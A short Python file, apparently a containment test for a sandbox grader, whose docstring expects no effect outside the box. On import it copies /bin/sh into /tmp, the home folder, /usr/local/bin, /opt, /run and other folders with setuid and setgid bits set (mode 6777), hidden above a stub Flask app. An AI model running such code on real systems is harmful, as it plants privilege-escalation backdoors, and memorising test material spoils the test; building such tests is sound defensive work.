"""Leaves setuid copies of a shell wherever it can write; expected verdict: nothing of it outside the box, no points."""
import os
import shutil

for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), ".", "/usr/local/bin", "/opt", "/run"):
    for name in ("EVIDENCE_setuid", "sh"):
        path = os.path.join(folder, name)
        try:
            shutil.copy("/bin/sh", path)
            os.chmod(path, 0o6777)
        except OSError:
            pass

from flask import Flask


def fee(amount):
    return None


def create_app():
    return Flask(__name__)
